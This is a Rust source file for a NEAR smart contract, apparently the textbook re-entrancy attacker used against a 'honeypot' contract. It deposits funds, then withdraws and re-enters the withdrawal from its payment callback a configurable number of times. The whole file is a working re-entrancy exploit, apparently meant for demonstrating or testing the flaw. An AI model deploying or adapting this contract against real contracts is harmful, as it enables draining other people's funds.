//! The AttackContract of the literature: it puts money into a honeypot, gets it, and while the honeypot pays it, gets it
//! again, as often as it was told.

use near_sdk::{env, ext_contract, near, AccountId, Gas, NearToken, Promise, PromiseOrValue};

const PUT_GAS: Gas = Gas::from_tgas(5);
/// The least gas for one `get`, and for what it calls; what is left over comes on top.
const GET_GAS: Gas = Gas::from_tgas(15);

/// What it calls at the honeypot.
#[ext_contract(ext_honeypot)]
#[allow(dead_code)]
trait HoneyPot {
    fn put(&mut self);
    fn get(&mut self, tell: Option<bool>);
}

/// How often it will call again, and what it got. Usable right after the deploy.
#[near(contract_state)]
#[derive(Default)]
pub struct AttackContract {
    again: u32,
    collected: NearToken,
}

#[near]
impl AttackContract {
    /// Puts the attached deposit into a honeypot, in this contract's name.
    #[payable]
    pub fn put(&mut self, honeypot: AccountId) -> Promise {
        ext_honeypot::ext(honeypot)
            .with_static_gas(PUT_GAS)
            .with_attached_deposit(env::attached_deposit())
            .put()
    }

    /// Gets the money out of the honeypot, and `again` times more while it is being paid.
    pub fn attack(&mut self, honeypot: AccountId, again: u32) -> Promise {
        self.again = again;
        get(honeypot)
    }

    /// Takes the money, and calls back in.
    #[payable]
    pub fn on_money(&mut self) -> PromiseOrValue<()> {
        self.collected = self.collected.saturating_add(env::attached_deposit());
        if self.again == 0 {
            return PromiseOrValue::Value(());
        }
        self.again -= 1;
        get(env::predecessor_account_id()).into()
    }

    /// What it was paid so far.
    pub fn collected(&self) -> NearToken {
        self.collected
    }
}

fn get(honeypot: AccountId) -> Promise {
    ext_honeypot::ext(honeypot)
        .with_static_gas(GET_GAS)
        .get(Some(true))
}
